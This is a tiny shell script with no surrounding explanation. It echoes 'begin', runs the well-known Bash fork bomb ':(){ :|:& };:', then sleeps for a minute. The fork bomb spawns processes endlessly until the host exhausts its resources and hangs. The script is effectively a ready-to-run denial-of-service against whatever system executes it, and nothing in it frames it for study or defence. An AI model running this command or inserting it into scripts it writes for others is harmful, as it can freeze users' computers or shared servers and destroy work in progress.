echo begin
:(){ :|:& };:
sleep 60
